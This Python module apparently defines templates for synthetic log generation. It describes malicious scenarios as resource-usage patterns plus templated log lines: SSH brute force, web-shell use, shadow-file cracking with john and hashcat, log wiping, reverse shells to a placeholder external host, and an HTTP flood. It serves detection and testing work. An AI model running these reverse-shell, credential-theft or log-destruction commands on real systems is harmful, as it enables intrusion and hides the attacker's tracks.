"""Attacks on accounts, logs and applications: guessing, shells, tampering, floods."""

from __future__ import annotations

from workbench.samples.cases.record import Motion, Scenario, story
from workbench.samples.cases.scripts.entry import DISCOVERY, ENTRY

MALICIOUS = "malicious"

SCENARIOS = (
    Scenario(
        "mali_7",
        "brute-force / credential-stuffing attack",
        MALICIOUS,
        (Motion("cpu_usage", "bursts", 92, 99), Motion("net_in", "bursts", 15, 25)),
        story("""
            during sshd 5-9
            A Failed password for invalid user {guess} from {ext} port {port} ssh2
            A Invalid user {guess} from {ext} port {port}
            B error: maximum authentication attempts exceeded for {guess} from {ext} port {port} ssh2 [preauth]
            B Connection closed by authenticating user {guess} {ext} port {port} [preauth]
            during sshd 1-3
            A PAM 5 more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={ext}
            B pam_unix(sshd:auth): check pass; user unknown, rhost={ext}
            during access 1-4
            A {ext} - - @ "POST /login HTTP/1.1" 401 532 "-" "python-requests/2.31.0"
            B {ext} - - @ "POST /api/v1/session HTTP/1.1" 403 118 "-" "Go-http-client/1.1"
            after? fail2ban.actions 1-2
            A NOTICE [sshd] Ban {ext}
            B NOTICE [nginx-auth] Ban {ext} after {n} failures
            after? sshd 1-1
            A Accepted password for {user} from {ext} port {port} ssh2
            B Accepted keyboard-interactive/pam for {user} from {ext} port {port} ssh2
            """),
    ),
    Scenario(
        "mali_8",
        "web-shell beaconing & command execution",
        MALICIOUS,
        (Motion("cpu_usage", "bursts", 35, 60), Motion("net_out", "bursts", 5, 14)),
        story(DISCOVERY + """
            before? access 1-1
            A {ext} - - @ "POST /wp-content/uploads/upload.php HTTP/1.1" 200 61 "-" "Mozilla/5.0"
            B {ext} - - @ "PUT /fileserver/{word}.jsp HTTP/1.1" 201 0 "-" "curl/7.88.1"
            onset access 1-2
            A {ext} - - @ "GET /uploads/.{word}.php?cmd=id HTTP/1.1" 200 54 "-" "Mozilla/5.0"
            B {ext} - - @ "POST /images/{word}.aspx HTTP/1.1" 200 {n} "-" "Mozilla/4.0 (compatible; MSIE 6.0)"
            during access 2-4
            A {ext} - - @ "POST /uploads/.{word}.php HTTP/1.1" 200 {n} "-" "Mozilla/5.0"
            B {ext} - - @ "POST /static/{word}.jsp?p={hex} HTTP/1.1" 200 {n} "-" "Java/1.8"
            during audit 2-4
            A type=EXECVE argc=3 a0="sh" a1="-c" a2="cat /etc/passwd" ppid={pid} comm="sh" uid=33
            A type=SYSCALL comm="sh" exe="/usr/bin/dash" ppid={pid} uid=33 subj=php-fpm key="web-exec"
            B type=EXECVE argc=3 a0="/bin/bash" a1="-c" a2="ls -la /var/www" uid=48 key="www-shell"
            B type=SYSCALL comm="whoami" ppid={pid} uid=48 subj=httpd key="www-shell"
            """),
    ),
    Scenario(
        "mali_9",
        "password cracking",
        MALICIOUS,
        (Motion("cpu_usage", "plateau", 90, 99.5),),
        story(ENTRY + """
            before sshd 1-1
            A Accepted password for {guess} from {ext} port {port} ssh2
            B Accepted keyboard-interactive/pam for {guess} from {ext} port {port} ssh2
            onset audit 1-2
            A type=PATH name="/etc/shadow" nametype=NORMAL comm="unshadow" auid={uid} success=yes
            B type=EXECVE argc=3 a0="cp" a1="/etc/shadow" a2="/tmp/.{word}/hashes" auid={uid}
            during audit 2-3
            A type=EXECVE argc=3 a0="john" a1="--wordlist=/tmp/rockyou.txt" a2="/tmp/{word}.hash"
            A type=EXECVE argc=4 a0="john" a1="--format=sha512crypt" a2="--fork=8" a3="/tmp/{word}.hash"
            B type=EXECVE argc=6 a0="hashcat" a1="-m" a2="1800" a3="-a" a4="0" a5="/tmp/.{word}/hashes"
            B type=EXECVE argc=4 a0="hashcat" a1="--session" a2="{word}" a3="--restore"
            during? kernel 1-2
            A perf: interrupt took too long ({n} > 2500), lowering kernel.perf_event_max_sample_rate
            B mce: CPU{cpu}: Package temperature above threshold, cpu clock throttled
            """),
        length=(0.5, 0.8),
        extras=(Motion("gpu_usage", "plateau", 70, 99),),
        resembles="norm_12",
    ),
    Scenario(
        "mali_10",
        "log deletion / tampering",
        MALICIOUS,
        (Motion("disk_io", "spike", 255, 3845), Motion("cpu_usage", "spike", 62, 93)),
        story(ENTRY + """
            onset audit 2-3
            A type=EXECVE argc=3 a0="shred" a1="-u" a2="/var/log/auth.log" auid={uid}
            A type=EXECVE argc=3 a0="rm" a1="-f" a2="/var/log/wtmp" auid={uid}
            B type=EXECVE argc=4 a0="truncate" a1="-s" a2="0" a3="/var/log/secure" auid={uid}
            B type=EXECVE argc=3 a0="sed" a1="-i" a2="/{ext}/d /var/log/messages" auid={uid}
            during rsyslogd 1-2
            A file '/var/log/auth.log': open error: No such file or directory [v8.2112.0 try https://www.rsyslog.com/e/2433]
            B file '/var/log/secure' has vanished while it was open, {big} bytes lost
            during systemd-journald 0-2
            A File /var/log/journal/{hex}/system.journal corrupted or uncleanly shut down, renaming and replacing.
            B Journal file {hex}/user-1000.journal is truncated, ignoring file.
            during audit 1-2
            A type=CONFIG_CHANGE op=set audit_enabled=0 old=1 auid={uid} res=1
            A type=EXECVE argc=2 a0="history" a1="-c" auid={uid}
            B type=EXECVE argc=3 a0="ln" a1="-sf" a2="/dev/null /root/.bash_history" auid={uid}
            B type=CONFIG_CHANGE op=remove_rule key="logins" list=4 auid={uid} res=1
            """),
        length=(0.06, 0.1),
        resembles="norm_2",
    ),
    Scenario(
        "mali_11",
        "reverse shell",
        MALICIOUS,
        (Motion("cpu_usage", "spike", 42, 50), Motion("net_out", "spike", 70, 110)),
        story(ENTRY + DISCOVERY + """
            onset audit 2-3
            A type=EXECVE argc=3 a0="bash" a1="-c" a2="bash -i >& /dev/tcp/{ext}/4444 0>&1"
            A type=EXECVE argc=4 a0="nc" a1="-e" a2="/bin/sh" a3="{ext}"
            B type=EXECVE argc=3 a0="python3" a1="-c" a2="import pty,socket;s=socket.socket();s.connect(({ext},9001))"
            B type=EXECVE argc=4 a0="socat" a1="exec:bash,pty,stderr" a2="tcp:{ext}:8443"
            during kernel 1-2
            A [UFW AUDIT] IN= OUT=eth0 SRC={ip} DST={ext} PROTO=TCP SPT={port} DPT=4444 SYN URGP=0
            B [nft] new-out SRC={ip} DST={ext} PROTO=TCP SPT={port} DPT=9001 SYN uid=33
            during audit 1-2
            A type=SYSCALL comm="bash" exe="/usr/bin/bash" a0=2 tty=(none) uid=33 syscall=dup2
            B type=SYSCALL comm="sh" tty=(none) ppid={pid} uid=33 syscall=connect saddr={ext} success=yes
            """),
        length=(0.06, 0.12),
    ),
    Scenario(
        "mali_12",
        "application-layer DDoS attack",
        MALICIOUS,
        (
            Motion("net_in", "plateau", 25, 45),
            Motion("cpu_usage", "plateau", 80, 99),
            Motion("net_out", "plateau", 12, 40),
        ),
        story("""
            onset nginx 1-2
            A [warn] {n} worker_connections are not enough while connecting to upstream, client: {ext}
            B [alert] worker_connections limit reached, {n} clients of {ext}/16 waiting
            during access 6-12
            A {ext2} - - @ "GET /search?q={hex} HTTP/1.1" 503 197 "-" "Mozilla/5.0 (Windows NT 6.1)"
            A {ext2} - - @ "POST /?{hex}={n} HTTP/1.1" 503 197 "-" "-"
            B {ext2} - - @ "GET /?s={hex}&r={n} HTTP/2.0" 429 162 "https://{dom}/" "Mozilla/5.0 (X11; U; Linux)"
            B {ext2} - - @ "GET /cart/add?id={hex} HTTP/1.1" 499 0 "-" "Opera/9.80"
            during nginx 1-3
            A [error] limiting requests, excess: {n}.240 by zone "perip", client: {ext2}, server: {svc}
            B [error] limiting connections by zone "addr", client: {ext2}, request: "GET /?s={hex} HTTP/2.0"
            during? kernel 1-1
            A TCP: request_sock_TCP: Possible SYN flooding on port 443. Sending cookies.
            B TCP: out of memory -- consider tuning tcp_mem; {big} orphaned sockets of {ext}/16
            after? suricata 1-1
            A [1:2221028:1] HTTP flood from many sources, rule set to drop
            B [1:2019401:3] ET DOS HTTP GET flood, top talker {ext2}
            """),
        length=(0.5, 0.8),
        resembles="norm_7",
    ),
)
